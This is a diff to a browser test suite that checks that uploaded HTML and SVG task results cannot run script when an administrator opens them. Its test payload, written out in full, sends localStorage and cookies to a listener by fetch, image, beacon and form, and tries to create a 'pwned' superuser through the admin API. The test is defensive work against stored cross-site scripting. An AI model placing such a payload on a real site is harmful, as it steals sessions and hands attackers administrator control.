@@ -1,6 +1,7 @@
 // A task's results are files that any user can bring (an imported zip holds whatever its maker put in it). An
 // HTML or SVG result opened by an administrator, from a link carrying the attacker's own token, must run no
-// script: a script on the application's origin could read the administrator's token and send it anywhere.
+// script: a script on the application's origin could read what the page keeps and send it anywhere, or act as
+// the administrator with the session cookie that the browser sends along.
 import { once } from 'node:events';
 import { createServer, type IncomingMessage, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
@@ -11,9 +12,12 @@ import { type TestService, startService } from '../service/helpers.ts';
 import { TaskStatus, finished, waitForTask } from '../service/taskhelpers.ts';
 import { launchBrowser, openPage } from './browser.ts';
 
-/** Every way a page can send what it read: fetch, an image, a beacon and a form. */
+/** Every way a page can send what it read (fetch, an image, a beacon and a form), and a try at making the
+ * attacker a superuser with the administrator's session. */
 const exfiltrate = (listener: string) => `
-  const stolen = encodeURIComponent(localStorage.getItem('aeromap.token') || 'none');
+  fetch('/api/admin/users/', { method: 'POST', headers: { 'content-type': 'application/json' },
+    body: JSON.stringify({ username: 'pwned', password: 'pwned-password', is_active: true, is_staff: true, is_superuser: true }) });
+  const stolen = encodeURIComponent(JSON.stringify(localStorage) + document.cookie);
   fetch('${listener}/fetch?t=' + stolen, { mode: 'no-cors' }).catch(() => {});
   new Image().src = '${listener}/image?t=' + stolen;
   navigator.sendBeacon('${listener}/beacon?t=' + stolen);
@@ -67,6 +71,7 @@ describe('results opened in the browser', () => {
     const control = await openPage(browser, 'desktop');
     await control.page.goto(`${listenerUrl}/payload.html`);
     await expect.poll(() => received.filter((line) => line.includes('?t=')).length, { timeout: 10_000 }).toBeGreaterThan(0);
+    expect(received.find((line) => line.includes('?t='))).not.toContain('aeromap');
     await control.page.context().close();
     received.length = 0;
 
@@ -89,7 +94,7 @@ describe('results opened in the browser', () => {
 
     const admin = await openPage(browser, 'desktop', t.admin.token);
     await admin.page.goto(`${t.url}/`);
-    await expect.poll(() => admin.page.evaluate(() => localStorage.getItem('aeromap.token'))).toBe(t.admin.token);
+    await admin.page.getByRole('heading', { name: 'Projects' }).waitFor();
     for (const file of ['odm_report/notes.html', 'odm_report/logo.svg']) {
       const url = `${t.url}/api/projects/${project}/tasks/${taskId}/assets/${file}?jwt=${attacker.token}`;
       const headers = (await fetch(url)).headers;
@@ -105,6 +110,8 @@ describe('results opened in the browser', () => {
       await admin.page.waitForTimeout(1_500);
     }
     expect(received).toEqual([]);
+    const users = (await t.admin.get('/api/admin/users/')).body;
+    expect(JSON.stringify(users)).not.toContain('pwned');
   });
 
   it('gives the application and its API docs policies that load scripts from the origin alone, unframed', async () => {
